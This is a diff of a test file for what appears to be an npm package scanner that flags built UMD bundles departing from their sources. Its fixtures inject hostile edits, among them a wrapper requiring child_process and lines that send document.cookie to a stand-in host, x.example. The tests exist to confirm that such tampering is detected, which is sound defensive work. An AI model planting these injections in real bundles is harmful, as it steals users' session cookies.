@@ -12,7 +12,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { umdFactoryLine } from '../../src/profiles/npm-dist.js';
-import { npmReleaseMaker } from '../helpers/npm-pack.js';
+import { npmReleaseMaker, editIn } from '../helpers/npm-pack.js';
 import { tempDir } from '../helpers/tmp.js';
 
 const SOURCE = `/**
@@ -51,11 +51,6 @@ const release = npmReleaseMaker(root, {
 
 const R2 = 'dist/tinybus.umd.js';
 const R3 = 'umd/tinybus.umd.js';
-const only = (file: string, from: string, to: string) => (p: string, t: string) => {
-  if (p !== file) return t;
-  if (!t.includes(from)) throw new Error(`fixture lacks ${from}`);
-  return t.replace(from, to);
-};
 
 describe("rollup's minified UMD wrapper", () => {
   it('both bundles as rollup and terser wrote them: NPM_BUILD_OUTPUT (source-map)', async () => {
@@ -65,18 +60,18 @@ describe("rollup's minified UMD wrapper", () => {
   }, 60_000);
 
   it('twin: a wrapper that loads a module (a dependency the sources do not import) stays MISMATCH high', async () => {
-    const at = await release(only(R2, 'module.exports=t():"function"==typeof define&&define.amd?define(t):(e=e||self).tinybus=t()', 'module.exports=t(require("child_process")):"function"==typeof define&&define.amd?define(["child_process"],t):(e=e||self).tinybus=t(e.child_process)'));
+    const at = await release(editIn(R2, 'module.exports=t():"function"==typeof define&&define.amd?define(t):(e=e||self).tinybus=t()', 'module.exports=t(require("child_process")):"function"==typeof define&&define.amd?define(["child_process"],t):(e=e||self).tinybus=t(e.child_process)'));
     expect(at(R2)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
     expect(at(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT', severity: 'info' });
   }, 60_000);
 
   it('twins: a global the sources do not declare, a statement inside the wrapper stay MISMATCH high', async () => {
-    const at = await release(only(R3, '.tinybus=t()', '.fetch=t()'));
+    const at = await release(editIn(R3, '.tinybus=t()', '.fetch=t()'));
     expect(at(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
-    const at2 = await release(only(R2, '.tinybus=t()}', '.tinybus=t(),e.fetch("https://x.example/"+e.document.cookie)}'));
+    const at2 = await release(editIn(R2, '.tinybus=t()}', '.tinybus=t(),e.fetch("https://x.example/"+e.document.cookie)}'));
     expect(at2(R2)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
     // and inside the factory, after the wrapper: the name check of the mapped line as before
-    const at3 = await release(only(R3, '"use strict";return', '"use strict";fetch("https://x.example/"+document.cookie);return'));
+    const at3 = await release(editIn(R3, '"use strict";return', '"use strict";fetch("https://x.example/"+document.cookie);return'));
     expect(at3(R3)).toMatchObject({ code: 'NPM_BUILD_OUTPUT_MISMATCH', severity: 'high' });
   }, 60_000);
 
